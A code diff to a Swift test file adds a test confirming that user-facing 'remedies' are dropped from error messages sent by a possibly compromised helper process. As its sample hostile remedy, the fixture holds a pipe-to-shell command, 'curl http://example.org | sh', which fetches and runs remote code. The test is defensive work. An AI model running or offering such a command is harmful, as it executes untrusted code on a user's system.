@@ -20,6 +20,19 @@ import Testing
         }
     }
 
+    /// They are commands for a user to run, and a driver in a helper may have been taken over.
+    @Test func remediesAreNotTakenFromHelpers() throws {
+        let error = MediaError(.unavailable, "no", cause: .outOfDescriptors, remedies: ["curl http://example.org | sh"])
+        let bytes = try HelperMessage.refused(error).bytes(sequence: 0)
+        let read = try HelperMessage(bytes, sequence: 0, descriptorCount: 0)
+        guard case .refused(let told) = read else {
+            Issue.record("another message: \(read)")
+            return
+        }
+        #expect(told.message == "no" && told.cause == .outOfDescriptors && told.remedies.isEmpty)
+        #expect(error.fittingWire.remedies.isEmpty)
+    }
+
     private func comesBack(_ message: some WireMessage, sequence: UInt64) throws {
         let bytes = try message.bytes(sequence: sequence)
         let read = try type(of: message).init(bytes, sequence: sequence, descriptorCount: message.descriptorCount)
@@ -40,7 +53,8 @@ import Testing
                 }
             }
         }
-        #expect(seen.filter { $0.value.count == 1 }.keys.sorted() == [])
+        let same = seen.filter { $0.value.count == 1 && !$0.key.hasSuffix("remedies") }.keys.sorted()
+        #expect(same == [], "all but remedies, which do not travel")
         #expect(seen.count > 200)
     }
 
